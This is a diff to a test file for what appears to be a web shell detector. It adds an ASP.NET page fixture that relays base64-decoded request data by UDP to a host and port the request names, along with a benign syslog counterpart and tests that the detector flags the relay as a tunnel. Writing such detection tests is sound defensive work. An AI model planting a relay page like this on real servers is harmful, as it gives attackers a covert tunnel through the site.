@@ -119,6 +119,36 @@ def test_socket_tunnel_with_settings_decrypted_at_run_time() -> None:
     assert "Socket.Connect" in chain
 
 
+UDP_RELAY = """<%@ Page Language="VB" %>
+<%@ Import Namespace="System.Net.Sockets" %>
+<script runat="server">
+Sub Page_Load()
+    Dim u As New UdpClient()
+    Dim b As Byte() = Convert.FromBase64String(Request.Form("d"))
+    u.Send(b, b.Length, Request.Form("h"), CInt(Request.Form("p")))
+End Sub
+</script>"""
+
+UDP_SYSLOG = """<%@ Page Language="C#" %>
+<script runat="server">
+void Page_Load(object sender, EventArgs e) {
+    var u = new System.Net.Sockets.UdpClient();
+    var b = System.Text.Encoding.UTF8.GetBytes("login " + Request.Form["user"]);
+    u.Send(b, b.Length, "syslog.example.com", 514);
+}
+</script>"""
+
+
+def test_datagrams_to_a_host_the_request_names_are_a_tunnel() -> None:
+    # `UdpClient.Send(bytes, length, host, port)`: the client picks where the datagram goes.
+    assert "UdpClient.Send" in chain_of(run("udp.aspx", UDP_RELAY), "EXH-WS-CODE-TUNNEL")
+
+
+def test_datagrams_of_request_data_to_a_fixed_host_are_not() -> None:
+    # A login sent to the site's own syslog server: request data, but a destination in the code.
+    assert_benign("syslog.aspx", UDP_SYSLOG)
+
+
 def test_socket_to_a_configured_host_in_an_own_class_is_not_a_tunnel() -> None:
     code = """<%@ Page Language="C#" %>
 <script runat="server">
